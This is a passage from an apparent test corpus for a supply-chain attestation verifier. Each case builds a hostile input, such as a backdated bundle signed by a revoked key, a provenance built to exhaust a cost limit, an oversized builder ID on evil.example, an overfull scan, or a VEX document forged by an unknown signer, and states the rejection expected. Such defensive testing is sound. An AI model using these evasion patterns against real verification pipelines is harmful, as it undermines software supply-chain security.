          key: `flood/corpus/${String(i).padStart(3, '0')}.sigstore.json`,
          body: json(
            await attest(testKey('p256', `${KEY_ARN_PREFIX}flood-${i}`), 'flooded-digest.bin', body),
          ),
        })),
      );
      return { artifact: { key, body }, attestations: flood };
    },
  },
  {
    name: 'backdated-proof-only-entry',
    description:
      "A keyed bundle by a registry key revoked effective 2021-01-01, logged with an inclusion proof but no signed entry timestamp, whose entry claims 2020-06-01: the proof does not cover the time, so the signing time is the upload's.",
    expectedReason: 'KEY_REVOKED',
    settles: 'at-deadline',
    async build({ registerKey, registry }) {
      const signer = await registerKey('corpus-backdated');
      setup(
        (await registry.revoke(signer.keyId, new Date('2021-01-01T00:00:00.000Z'), 'leaked')) === 'revoked',
        'revoke the key',
      );
      const key = 'releases/corpus/backdated-proof-only-entry.bin';
      const body = bytesFor('backdated-proof-only-entry');
      const statement = createStatement(
        [{ name: 'backdated-proof-only-entry.bin', digests: { sha256: sha256(body) } }],
        PROVENANCE,
        provenancePredicate(),
      );
      const bundle = await keyedBundle({
        key: signer,
        content: { statement },
        tlog: { proof: true, promise: false, integratedTime: new Date('2020-06-01T00:00:00Z') },
      });
      return { artifact: { key, body }, attestations: [{ key: `${key}.sigstore.json`, body: json(bundle) }] };
    },
  },
  // --- conditions and vulnerability gates: an allowed signer's statement that makes evaluation expensive -
  {
    name: 'condition-cost-exhaustion',
    description:
      "The pipeline key's provenance carries 2,000 distinct materials, so the rule's quadratic condition (true for any list) needs 2 million iterations: the cost limit stops it and the artifact is rejected, never accepted because the expression would have held.",
    expectedReason: 'CONDITION_FAILED',
    settles: 'at-once',
    async build({ pipelineKey }) {
      const key = 'conditioned/corpus/condition-cost-exhaustion.bin';
      const body = bytesFor('condition-cost-exhaustion');
      const predicate = {
        ...provenancePredicate(),
        materials: Array.from({ length: 2000 }, (_, i) => ({ uri: `git+https://github.com/acme/lib-${i}` })),
      };
      return {
        artifact: { key, body },
        attestations: [
          {
            key: `${key}.sigstore.json`,
            body: json(await attest(pipelineKey, 'condition-cost-exhaustion.bin', body, { predicate })),
          },
        ],
      };
    },
  },
  {
    name: 'condition-huge-input',
    description:
      "The pipeline key's provenance names a 4 MiB builder ID that is not the allowed one: the condition reads it in linear time and rejects it.",
    expectedReason: 'CONDITION_FAILED',
    settles: 'at-once',
    async build({ pipelineKey }) {
      const key = 'conditioned/corpus/condition-huge-input.bin';
      const body = bytesFor('condition-huge-input');
      const predicate = provenancePredicate(`https://evil.example/${'a'.repeat(4 * 1024 * 1024)}`);
      return {
        artifact: { key, body },
        attestations: [
          {
            key: `${key}.sigstore.json`,
            body: json(await attest(pipelineKey, 'condition-huge-input.bin', body, { predicate })),
          },
        ],
      };
    },
  },
  {
    name: 'scan-too-many-findings',
    description:
      'A scan by the pipeline key reporting 20,001 findings (all low): more than a scan may hold, so it is refused whole rather than read in part, where a critical could hide past the cut.',
    expectedReason: 'VULNERABILITY_SCAN_INVALID',
    settles: 'at-once',
    async build({ pipelineKey }) {
      const key = 'scanned/corpus/scan-too-many-findings.bin';
      const body = bytesFor('scan-too-many-findings');
      const scan = scanPredicate(Array.from({ length: 20_001 }, () => 'low'));
      return {
        artifact: { key, body },
        attestations: [
          {
            key: `${key}.sigstore.json`,
            body: json(await attest(pipelineKey, 'scan-too-many-findings.bin', body)),
          },
          {
            key: `${key}.scan.intoto.jsonl`,
            body: json(
              (
                await attest(pipelineKey, 'scan-too-many-findings.bin', body, {
                  predicateType: VULNS,
                  predicate: scan,
                })
              ).dsseEnvelope,
            ),
          },
        ],
      };
    },
  },
  {
    name: 'vex-from-a-stranger',
    description:
      "The pipeline's scan reports a critical; an OpenVEX document signed by an unknown key says it does not affect the artifact. Only an allowed signer's VEX counts: the artifact waits and is rejected at its deadline.",
    expectedReason: 'VULNERABILITY_FOUND',
    settles: 'at-deadline',
    async build({ pipelineKey }) {
      const key = 'scanned/corpus/vex-from-a-stranger.bin';
      const body = bytesFor('vex-from-a-stranger');
      const vex = {
        '@context': 'https://openvex.dev/ns/v0.2.0',
        '@id': 'https://evil.example/vex',
        author: 'mallory',
        timestamp: new Date().toISOString(),
        version: 1,
        statements: [
          {
            vulnerability: { name: 'CVE-2026-10000' },
            status: 'not_affected',
            justification: 'component_not_present',
          },
        ],
      };
      return {
        artifact: { key, body },
        attestations: [
          {
            key: `${key}.sigstore.json`,
            body: json(await attest(pipelineKey, 'vex-from-a-stranger.bin', body)),
          },
          {
            key: `${key}.scan.intoto.jsonl`,
            body: json(
              (
                await attest(pipelineKey, 'vex-from-a-stranger.bin', body, {
                  predicateType: VULNS,
                  predicate: scanPredicate(['critical']),
                })
              ).dsseEnvelope,
            ),
          },
          {
            key: `vex/corpus/vex-from-a-stranger.intoto.jsonl`,
            body: json(
              (
                await attest(
                  testKey('p256', `${KEY_ARN_PREFIX}vex-stranger`),
                  'vex-from-a-stranger.bin',
                  body,
                  { predicateType: OPENVEX, predicate: vex },
                )
              ).dsseEnvelope,
            ),
          },
        ],
      };
    },
  },
];
